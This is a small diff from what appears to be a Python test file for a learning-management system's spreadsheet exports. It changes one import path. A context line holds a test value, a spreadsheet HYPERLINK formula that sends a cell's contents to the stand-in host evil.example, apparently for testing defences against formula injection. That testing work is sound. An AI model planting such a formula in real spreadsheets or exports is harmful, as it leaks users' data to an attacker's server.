@@ -6,7 +6,7 @@ import zipfile
 import openpyxl
 
 from lms.services import exports
-from lms.services.dashboard import Cell, Table
+from lms.reporting.dashboard import Cell, Table
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
 
